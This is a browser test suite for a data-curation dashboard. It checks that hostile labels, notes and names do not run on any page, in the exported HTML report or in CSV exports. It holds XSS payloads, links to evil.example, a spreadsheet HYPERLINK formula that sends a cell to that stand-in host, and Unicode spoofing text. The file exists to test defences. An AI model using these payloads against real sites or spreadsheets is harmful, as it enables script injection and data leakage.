"""A run in which everything that people name is an attack, walked through on every page, in the report and exported."""

from __future__ import annotations

import csv
import re
from contextlib import suppress
from pathlib import Path
from urllib.parse import urlencode

import pandas as pd
import pytest
from driving import Served, press, settled, visit
from playwright.sync_api import Page, TimeoutError, expect

from dashboard.desks.reading.desk import readings_of
from dashboard.view import saved as saved_views
from dashboard.view.view import View
from lsi_engine.curation import CleaningRule, Decisions, export_bytes
from lsi_engine.curation.export import read_export, subset_of
from lsi_engine.runs.config import RunConfig
from lsi_engine.runs.pipeline import compute
from lsi_engine.runs.store import RunStore

pytestmark = pytest.mark.browser

#: Every one of them is a class, a text, a reviewer, a note and the name of a study.
HOSTILE = {
    "element": '<img src=x onerror="window.obeyed=1">',
    "attribute": "\"'><svg onload=window.obeyed=2><script>window.obeyed=3</script>",
    "markdown": "[go](http://evil.example/a) ![see](http://evil.example/b.png) <http://evil.example> **bold** `code`",
    "streamlit": "$\\frac{1}{2}$ :red[red] :material/skull: :shortcake: - [ ] # head",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "invisible": "\u202egnp.exe\u2066 \u200b\u200d\ufeff end",
    "long": "y" * 200,
}
#: Longer than a label may be; texts and notes may.
LONG = "z" * 10_000
#: Seen on a page whenever these labels are.
SEEN = "window.obeyed=1"
RUN, FLIPPED = "odd", "odd-flipped"


@pytest.fixture(scope="session")
def digits_cache(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """In the place of the digits that the server shows elsewhere: hostile texts, and the same with flipped labels."""
    folder = tmp_path_factory.mktemp("hostile")
    rows = [(f"{text[:200]} {kind} {n}", text) for kind, text in HOSTILE.items() for n in range(12)]
    rows[0] = (f"{rows[0][0]} {LONG}", rows[0][1])
    pd.DataFrame(rows, columns=["text", "label"]).to_csv(folder / "odd.csv", index=False)
    store = RunStore(folder / "cache")
    source, extractor = {"kind": "texts", "path": str(folder / "odd.csv")}, {"kind": "tfidf"}
    flips = [{"kind": "flip_labels", "rate": 0.2, "seed": 0}]
    for name, corruption in ((RUN, []), (FLIPPED, flips)):
        compute(RunConfig(name=name, source=source, extractor=extractor, corruption=corruption), store)
    for name in (RUN, FLIPPED):
        run = store.open(name)
        frame = run.scores()
        for row, text in zip(frame.iloc[::12].itertuples(), HOSTILE.values(), strict=True):
            Decisions(run.decisions_path).record(
                row.sample_id, "keep", reviewer=text[:300], note=text + LONG, expected_revision=0, given_label=row.label
            )
        for text in list(HOSTILE.values())[:4]:
            readings_of(run).create(text[:60], frame["sample_id"].iloc[:5].tolist(), seed=0, created_by=text[:60])
    for text in list(HOSTILE.values())[:4]:
        saved_views.save(store.cache, text[:60], View(run=RUN, classes=(text,), search=text))
    return store.cache


#: The pages' names in the navigation, in its order.
PAGES = (
    *("Overview", "Classes", "Map", "Corruption", "Subsets", "Compare"),
    *("Gallery", "Sample", "Review", "Reading", "Export", "Runs"),
)


def unharmed(page: Page) -> None:
    """Nothing that came from the run acts: no script ran, no element, link, formula or icon was made of it."""
    assert page.evaluate("window.obeyed") is None
    for made in ('img[src="x"]', '[href*="evil.example"]', '[src*="evil.example"]', ".katex", "svg[onload]", "strong"):
        text = page.locator(made, has_text="bold") if made == "strong" else page.locator(made)
        expect(text).to_have_count(0)
    expect(page.locator('[data-testid="stIconMaterial"]', has_text="skull")).to_have_count(0)
    expect(page.locator('[data-testid="stException"], [data-testid="stAlertContentError"]')).to_have_count(0)


#: Pictures and controls, also those in components, that a screen reader could not name.
NAMELESS = """() => {
  const found = [], roots = [document.body];
  const named = (e) => e.getAttribute("aria-label") || e.getAttribute("aria-labelledby") || e.labels?.length || e.title
    || e.placeholder || e.textContent.trim();
  for (const root of roots) for (const e of root.querySelectorAll("*")) {
    if (e.shadowRoot) roots.push(e.shadowRoot);
    const seen = e.getBoundingClientRect().width > 0;
    if (e.tagName === "IMG" ? !e.hasAttribute("alt") : seen && e.matches("button, a[href], input, select, textarea")
      && !named(e)) found.push(e.outerHTML.slice(0, 200));
  }
  return found;
}"""


def test_nothing_acts_on_any_page(served: Served, page: Page) -> None:
    visit(page, f"{served.address}/gallery?run={FLIPPED}&layout=Grid")
    for title in PAGES:
        press(page.get_by_test_id("stSidebarNav").get_by_role("link", name=title, exact=True))
        expect(page).to_have_url(re.compile("/(start)?[?]" if title == "Overview" else f"/{title.lower()}[?]"))
        settled(page)
        if title in ("Gallery", "Review"):
            expect(page.get_by_text(SEEN).first).to_be_attached()
        page.wait_for_timeout(200)  # for what a script would do
        unharmed(page)
        # No name is so long that the page must be scrolled sideways.
        page.wait_for_function("document.documentElement.scrollWidth <= window.innerWidth")
        with suppress(TimeoutError):  # figures name their buttons once they are drawn
            page.wait_for_function(f"() => !({NAMELESS})().length")
        assert page.evaluate(NAMELESS) == [], title
    first = pd.read_parquet(served.cache / "runs" / FLIPPED / "scores.parquet")["sample_id"].iloc[0]
    visit(page, f"{served.address}/sample?run={FLIPPED}&sample={first}")
    expect(page.get_by_text(LONG[:100]).first).to_be_attached()
    unharmed(page)
    narrowed = {"class": [HOSTILE["element"], HOSTILE["markdown"], HOSTILE["streamlit"]], "q": ["evil"]}
    visit(page, f"{served.address}/overview?" + urlencode({"run": [RUN], **narrowed}, doseq=True))
    expect(page.get_by_role("button", name=HOSTILE["element"]).first).to_be_visible()
    press(page.get_by_role("button", name="Filters"))
    settled(page)
    unharmed(page)


def test_the_report_of_it_is_as_dead(served: Served, page: Page) -> None:
    visit(page, f"{served.address}/overview?run={FLIPPED}")
    with page.expect_download() as saving:
        press(page.get_by_role("button", name="Report"))
    assert saving.value.suggested_filename == f"{FLIPPED}.report.html"
    content = saving.value.path().read_text(encoding="utf-8")
    page.route("**/report.html", lambda route: route.fulfill(body=content, content_type="text/html; charset=utf-8"))
    page.goto(f"{served.address}/report.html")
    unharmed(page)
    expect(page.get_by_text(SEEN).first).to_be_visible()
    assert page.locator("svg.figure").count() >= 4
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")


def test_a_spreadsheet_opens_the_exports_without_running_them(served: Served) -> None:
    run = RunStore(served.cache).open(RUN)
    subset = subset_of(run, CleaningRule(), served.cache)
    for form in ("csv", "cleanlab"):
        content = export_bytes(subset, run, form).decode("utf-8")
        cells = [cell for row in csv.reader(content.splitlines()) for cell in row]
        assert any("HYPERLINK" in cell for cell in cells)
        assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t"))]
    kept = served.cache / "kept.csv"
    kept.write_bytes(export_bytes(subset, run, "csv"))
    assert set(read_export(kept)[0]["given_label"]) == set(HOSTILE.values())
